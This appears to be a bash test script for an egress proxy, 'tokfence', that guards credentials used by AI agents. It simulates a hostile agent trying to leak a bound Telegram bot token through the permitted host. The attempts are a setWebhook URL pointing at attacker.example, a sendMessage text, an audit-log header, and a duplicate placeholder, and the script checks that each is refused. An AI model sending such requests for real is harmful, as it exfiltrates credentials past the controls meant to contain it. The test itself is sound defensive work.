#!/usr/bin/env bash
# A hostile agent holding only tokfence-secret:bot (granted to it, bound to api.telegram.org) gets
# the real secret *through the bound host*: it puts the placeholder where the host keeps or passes
# on what it is sent, not where it reads its credential. Telegram stores a webhook URL given in
# setWebhook's query and calls it (with the secret in it, at the attacker's server); sendMessage's
# text goes to a chat the attacker reads; Discord shows X-Audit-Log-Reason in the audit log of the
# attacker's guild. tokfence substitutes a placeholder only in the path or in a credential field
# (Authorization, X-Api-Key, ...), once per request: each of these is refused (placeholder-position)
# before anything is sent, and the host never receives the secret outside those places.
source "$(dirname "$0")/egress_lib.bash"

egress_setup '{"allow":["api.telegram.org"],"secrets":["bot"]}' '[egress]' "extra_ca_file = \"$WORK/cert.pem\""
bind_secret bot api.telegram.org --in path  # a Telegram bot token: /bot<token>/
P="tokfence-secret:bot"
HEADS="$WORK/TLS.requests.heads"
T=api.telegram.org:443
H='Host: api.telegram.org\r\n'

log "control: the credential where Telegram reads it (the path), and in Authorization"
as_agent $T "GET /bot$P/getMe HTTP/1.1\r\n$H\r\n"
[[ -z $EGRESS && $STATUS == "HTTP/1.1 "* ]] || die "the bot token in the path was refused: $STATUS ($EGRESS)"
grep -q "^GET /bot$BOUND/getMe " "$HEADS" || die "the bound host did not get the secret in its path"
as_agent $T "GET /getMe HTTP/1.1\r\n${H}Authorization: Bot $P\r\n\r\n"
[[ -z $EGRESS && $STATUS == "HTTP/1.1 "* ]] || die "the token in Authorization was refused: $STATUS ($EGRESS)"
grep -q "^Authorization: Bot $BOUND" "$HEADS" || die "the bound host did not get the secret in Authorization"
: >"$HEADS"

misplaced() {  # what
  [[ $STATUS == "HTTP/1.1 403"* ]] || die "$1: expected 403, got: $STATUS"
  expect_eq "$EGRESS" placeholder-position "$1: X-Tokfence-Egress"
  [[ -s $HEADS ]] && die "$1: the bound host received the request: $(cat "$HEADS")"
  [[ $REPLY != *"$BOUND"* ]] || die "$1: the refusal quotes the secret"
}
log "1. setWebhook with the token in the webhook's URL (the host would call the attacker with it)"
as_agent $T "GET /bot$P/setWebhook?url=https%3A%2F%2Fattacker.example%2Fhook%2F$P HTTP/1.1\r\n$H\r\n"
misplaced "the placeholder in a webhook URL"
log "2. sendMessage with the token as the text (delivered to the attacker's chat)"
as_agent $T "GET /botX/sendMessage?chat_id=666&text=$P HTTP/1.1\r\n$H\r\n"
misplaced "the placeholder in a message's text"
log "3. the token in a field the host records (an audit-log reason)"
as_agent $T "POST /x HTTP/1.1\r\n${H}X-Audit-Log-Reason: $P\r\nContent-Length: 0\r\n\r\n"
misplaced "the placeholder in X-Audit-Log-Reason"
log "4. a second copy next to the credential (one is data)"
as_agent $T "GET /bot$P/sendMessage HTTP/1.1\r\n${H}Authorization: Bot $P\r\n\r\n"
misplaced "two placeholders in one request"

rows=$(egress_rows)
expect_eq "$(jq '[.[] | select(.rule == "placeholder-position" and .decision == "denied")] | length' <<<"$rows")" 4 "a denied row per attempt"
hits=$(grep -rlaF -- "$BOUND" "$WORK" 2>/dev/null | grep -v -E '/vault\.enc(\.|$)|/TLS\.requests(\.heads)?$' || true)
[[ -z $hits ]] || die "the bound secret is in: $hits"
log "ok: the secret goes only where the host reads its credential"
